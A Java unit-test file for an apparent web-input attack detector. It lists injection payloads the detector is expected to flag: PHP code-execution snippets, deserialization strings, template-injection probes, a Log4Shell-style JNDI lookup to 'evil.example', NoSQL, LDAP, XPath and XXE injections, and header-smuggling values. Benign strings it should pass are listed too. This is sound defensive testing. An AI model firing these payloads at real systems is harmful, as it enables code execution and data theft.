package dev.cordon.domain.detection.shape;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CodeTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<?php k",
                "<?=7?>",
                "system($k)",
                "a;exit(md5('k'));//",
                "print(123456-654)",
                "include('k.php')",
                "exec /*k*/ ('id')",
                "array_filter(['id'],'system')",
                "session_start()",
                "(system)('id')",
                "\"system\"('id')",
                "$k='sys'.'tem'",
                "$k('id')",
                "o:8:\"stdclass\":0:{}",
                "c:11:\"arrayobject\":7:{}",
                "__proto__[k]",
                "class.classloader.urls[0]"
            })
    void codeOfLanguages(String text) {
        assertThat(isAttack(text)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{7*7}}",
                "{{ 7 * '7' }}",
                "${7*7}",
                "#{7*7}",
                "{7*7}",
                "[[7*7]]",
                "@(7*7)",
                "{{config}}",
                "{{ self }}",
                "{{''.__class__}}",
                "{{k()}}",
                "{% if k %}",
                "{%- import k -%}",
                "${jndi:ldap://evil.example}",
                "${${lower:j}ndi:x}",
                "${java:version}",
                "${pagecontext.request}"
            })
    void expressionsOfTemplates(String text) {
        assertThat(isAttack(text)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"$or\":[{}]}",
                "{\"user\":{\"$ne\":null}}",
                "{ $gt: '' }",
                "true, $where: '7 == 7'",
                "';return true;var k='",
                "*)(uid=*))(|(uid=*",
                "x' and count(/*)=4",
                "<!doctype k system \"k.dtd\">",
                "<!entity k system \"k\">",
                "k\r\nset-cookie:k=7",
                "kim@shop.example\nbcc:kim@evil.example"
            })
    void queriesOfOtherStoresAndHeadLines(String text) {
        assertThat(isAttack(text)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{campaign.name}}",
                "{{ad.name}}|{{placement}}",
                "{{name|upper}}",
                "{keyword}",
                "${name} mug",
                "#{hashtag}",
                "system of a down (band)",
                "print (framed)",
                "include(d) batteries",
                "extract (vanilla)",
                "$5 or less",
                "$10-$20",
                "price in $: 10",
                "[1,2,3]",
                "{\"unit\":\"px\",\"size\":24}",
                "dear all,\r\nplease call me: kim",
                "from: kim\nto: you",
                "a (b) & (c)",
                "<!doctype html>",
                "größe {l}",
                "taille [m]",
                "¿talla (m)?",
                "colore {rosso}",
                "maat [xl]"
            })
    void bracesAndBracketsOfEveryDay(String text) {
        assertThat(isAttack(text)).isFalse();
    }

    private static boolean isAttack(String text) {
        return Code.isAttack(Texts.of(text));
    }
}
